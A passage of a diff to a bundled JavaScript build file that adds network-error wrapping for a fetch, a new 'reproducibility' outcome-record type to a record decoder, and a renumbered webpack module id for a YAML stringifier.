+        return Buffer.from(await response.arrayBuffer());
+    }
+    catch (error) {
+        const reason = error instanceof DeadlineExceeded
+            ? error
+            : error.cause instanceof DeadlineExceeded
+                ? error.cause
+                : error;
+        throw networkError(reason, what, response.url);
+    }
 }
 
 ;// CONCATENATED MODULE: ./packages/core/src/console-ports.ts
@@ -41805,7 +45750,7 @@ const recordRun = object({
 /** Decodes one record; unknown fields are ignored so older readers accept richer records. */
 const outcomeRecord = (v, p) => {
     const { type, run } = object({
-        type: literal('cache', 'signature', 'scan', 'verification'),
+        type: literal('cache', 'signature', 'scan', 'verification', 'reproducibility'),
         run: optional(recordRun),
     })(v, p);
     const withRun = (r) => (run === undefined ? r : { ...r, run });
@@ -41845,6 +45790,16 @@ const outcomeRecord = (v, p) => {
                 environment: optional(string),
                 verified: decode_boolean,
                 digest: optional(string),
+            })(v, p);
+            return withRun({ type, ...r });
+        }
+        case 'reproducibility': {
+            const r = object({
+                subject: outcome_records_text,
+                reproducible: decode_boolean,
+                hermetic: literal('yes', 'no', 'not-isolated'),
+                digest: optional(string),
+                runs: optionalNumber,
             })(v, p);
             return withRun({ type, ...r });
         }
@@ -41899,6 +45854,10 @@ async function publishRecords(sink, mode, records, action, log) {
 }
 
 ;// CONCATENATED MODULE: ./packages/core/src/index.ts
+
+
+
+
 
 
 
@@ -43932,7 +47891,7 @@ var identity = __nccwpck_require__(1127);
 var Pair = __nccwpck_require__(7165);
 var toJS = __nccwpck_require__(6424);
 var Schema = __nccwpck_require__(5840);
-var stringifyDocument = __nccwpck_require__(6829);
+var stringifyDocument = __nccwpck_require__(9210);
 var anchors = __nccwpck_require__(1596);
 var applyReviver = __nccwpck_require__(3661);
 var createNode = __nccwpck_require__(2404);
@@ -49854,7 +53813,7 @@ exports.stringifyComment = stringifyComment;
 
 /***/ }),
 
-/***/ 6829:
+/***/ 9210:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
